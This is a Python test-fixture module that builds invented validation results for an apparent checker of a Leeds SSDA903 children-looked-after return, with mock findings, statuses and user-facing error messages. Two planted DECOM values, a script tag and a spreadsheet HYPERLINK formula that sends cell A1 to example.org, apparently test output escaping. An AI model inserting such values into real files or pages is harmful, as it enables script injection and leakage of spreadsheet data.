"""Invented answers, one per verdict, for the tests of the pack and for looking at by eye."""

from dataclasses import replace

from pandas import DataFrame

from schemas.quarter import Quarter
from schemas.rows import FINDING_COLUMNS, STATUS_COLUMNS, Checked, Tolerance
from schemas.submission import State, Submission, SubmittedFile
from tasks.answer import Answer

EPISODES = "leeds_903_episodes_Q1.csv"
HEADER = "leeds_903_header_Q1.csv"
REVIEWS = "leeds_903_reviews_Q1.csv"
PLANTED_SCRIPT = '<script>document.title="owned"</script>'
PLANTED_FORMULA = '=HYPERLINK("https://example.org/?"&A1,"open me")'

WORDS = {
    "SFP101": "This child has two rows with the same date of birth and sex in the header file. "
    "Keep one of them and send the file again.",
    "602": "The episode starts before the child was born. Check DECOM against DOB in the header "
    "file.",
    "141": "DECOM is not a real date. Write it as dd/mm/yyyy, for example 05/04/2025.",
    "104": "The unique pupil number (UPN) is missing. Ask the school, or give the code for why "
    "there is none.",
    "SFP204": "No review has been recorded for a child looked after for more than 28 days. Add the "
    "review, or tell us that none was held.",
    "EXTRA_COLUMN": "This column is not part of the return. It was not read.",
    "SFP300": "A child in the episodes file is not in the header file. Add the child to the header "
    "file, or correct the CHILD number.",
}


def submission(**changes):
    made = Submission(
        id="7f3a91c05be2d846",
        la_code="E08000035",
        return_name="ssda903",
        quarter=Quarter(2025, 1),
        version=2,
        files=(
            SubmittedFile(HEADER, "a" * 63 + "1", 48_213, "children"),
            SubmittedFile(EPISODES, "b" * 63 + "2", 310_944, "episodes"),
            SubmittedFile(REVIEWS, "c" * 63 + "3", 92_001, "reviews", "11aa22bb33cc44dd"),
        ),
    )
    return replace(made, **changes)


def finding(code, row, field, found, *, severity="error", reach="record", file=EPISODES, place=""):
    words = WORDS.get(code, f"Rule {code} is broken.")
    return (file, place, row, field, code, severity, reach, words, found, "episodes", 0)


def findings(*rows):
    """Return a findings frame; a finding at a row stands at that row's position."""
    frame = DataFrame(list(rows), columns=list(FINDING_COLUMNS))
    return frame.assign(position=frame["row"])


def statuses(*rows):
    return DataFrame(list(rows), columns=list(STATUS_COLUMNS))


PASSED = tuple((f"{code}", "episodes", "passed", 0, "") for code in range(142, 182))


def answer(**changes):
    made = Answer(
        submission=submission(),
        la_name="Leeds",
        return_title="Children looked after return (SSDA903)",
        state=State.ACCEPTED,
        received_at="2025-07-14T09:31:07+00:00",
        checked=Checked(findings(), statuses(*PASSED), {}),
        refusal=None,
        tolerances=(),
        in_force="this submission",
        row_counts={"children": 1_302, "episodes": 4_118, "reviews": 2_950},
        child_count=1_302,
        previous_row_counts=None,
        previous_child_count=None,
        past_patterns=None,
    )
    return replace(made, **changes)


def accepted():
    return answer(submission=submission(version=1))


QUERIES = (
    *(finding("602", 14 + 7 * n, "DECOM", f"{1 + n % 28:02d}/03/2025") for n in range(26)),
    finding("141", 77, "DECOM", "31/02/2025"),
    finding("141", 91, "DECOM", PLANTED_SCRIPT),
    finding("141", 92, "DECOM", PLANTED_FORMULA),
    finding("104", 8, "UPN", "", severity="query", reach="notice", file=HEADER),
    finding("104", 19, "UPN", "UN9", severity="query", reach="notice", file=HEADER),
    finding("SFP204", 3, "REVIEW", "007", severity="query", reach="notice", file=REVIEWS),
    finding("EXTRA_COLUMN", None, "LOCAL_TEAM", "", severity="notice", reach="notice", file=HEADER),
)


def past_patterns():
    return DataFrame(
        [
            ("2024-25Q1", "602", 61),
            ("2024-25Q1", "104", 30),
            ("2024-25Q2", "602", 55),
            ("2024-25Q2", "SFP300", 12),
            ("2024-25Q3", "602", 31),
            ("2024-25Q3", "104", 22),
            ("2024-25Q4", "602", 28),
            ("2024-25Q4", "141", 4),
        ],
        columns=["quarter", "code", "count"],
    )


def with_queries(*rows):
    return answer(
        state=State.ACCEPTED_WITH_QUERIES,
        checked=Checked(
            findings(*(rows or QUERIES)),
            statuses(
                ("602", "episodes", "failed", 26, ""),
                ("141", "episodes", "failed", 3, ""),
                ("104", "children", "failed", 2, ""),
                ("SFP204", "reviews", "failed", 1, ""),
                ("188", "oc2", "not run", 0, "the OC2 file was not sent"),
                ("3001", "oc3", "not applicable", 0, "collected from 2026-27"),
                *PASSED,
            ),
            {"episodes": list(range(27))},
        ),
        tolerances=(
            Tolerance("ENCODING_CONVERTED", HEADER, "Read as Windows-1252, not as UTF-8.", 1),
            Tolerance("TITLE_ROWS", EPISODES, "Two rows above the headings were left out.", 2),
        ),
        previous_row_counts={"children": 1_297, "episodes": 4_060, "reviews": 2_950},
        previous_child_count=1_297,
        past_patterns=past_patterns(),
    )


def rejected():
    broken = (
        *(
            finding("SFP300", 200 + n, "CHILD", f"{n:05d}", reach="submission", file=EPISODES)
            for n in range(412)
        ),
        *QUERIES,
    )
    return replace(
        with_queries(*broken),
        state=State.REJECTED,
        in_force="11aa22bb33cc44dd, version 1",
    )


def held():
    base = with_queries()
    could_not = ("SFP410", "episodes", "could not run", 0, "a fault in the check itself")
    checked = Checked(base.checked.findings, statuses(could_not, *PASSED), {})
    return replace(base, state=State.HELD, checked=checked, in_force=None)


def unreadable():
    return answer(
        state=State.REJECTED,
        checked=None,
        refusal=(
            "ROW_WIDTH",
            "A row has more values than there are headings. Put quotes around values that hold a "
            "comma, and send the file again.",
            EPISODES,
            1_044,
        ),
        in_force=None,
        row_counts={},
        child_count=None,
    )


def every_verdict():
    return {
        "accepted": accepted(),
        "queries": with_queries(),
        "rejected": rejected(),
        "held": held(),
        "unreadable": unreadable(),
    }
